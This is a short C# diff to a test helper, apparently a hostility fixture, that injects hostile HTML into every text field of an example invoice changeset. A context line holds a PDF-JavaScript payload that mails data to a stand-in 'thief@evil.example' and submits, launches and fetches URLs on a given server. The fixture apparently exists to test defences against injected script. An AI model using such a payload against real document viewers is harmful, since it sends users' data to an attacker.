@@ -12,13 +12,12 @@ internal static class HtmlHostility
         $"app.alert(\"Approved\"); app.mailMsg(false, \"thief@evil.example\"); try {{ this.submitForm(\"{server}/submit\"); }} catch (e) {{}} try {{ app.launchURL(\"{server}/launch\"); }} catch (e) {{}} this.getURL(\"{server}/get\");";
 
     /// <summary>The same text wherever a changeset has room for text, and letters that are read from right to left.</summary>
-    public static Changeset Changeset(string server)
+    public static Changeset Changeset(string html)
     {
-        var html = Html(server);
         return Examples.Invoice with
         {
             Title = html,
-            Recorded = Examples.Invoice.Recorded with { By = html, Model = html },
+            Recorded = Examples.Invoice.Recorded with { By = html, Model = html, Author = html },
             Evidence =
             [
                 new Evidence.Email { Id = "mail", Sha256 = Examples.Mail, Size = 7, From = html, Subject = html, MessageId = html },
